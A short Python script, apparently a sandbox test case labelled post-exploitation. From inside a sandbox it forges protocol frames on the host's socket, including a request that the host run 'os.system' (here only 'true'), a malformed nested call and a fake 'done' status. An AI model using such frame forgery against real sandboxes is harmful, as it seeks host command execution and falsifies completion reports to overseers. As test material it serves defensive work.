# kind=cap; source: post-exploitation: frames of its own on the host's socket
import socket, struct, sys
wire = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
dumps = sys.modules["circlet.sandbox.codec"].dumps
def frame(op, body):
    return struct.pack("<IB", len(body), op) + body
for op, body in (
    (17, b"printed by nobody"), (18, dumps(["os.system", ["true"], {}])), (18, dumps(["echo", [[[[]]]], {"value": {1: 2}}])),
    (20, dumps(["value", None])), (19, dumps({"status": "done", "omitted": 0})),
):
    wire.sendall(frame(op, body))
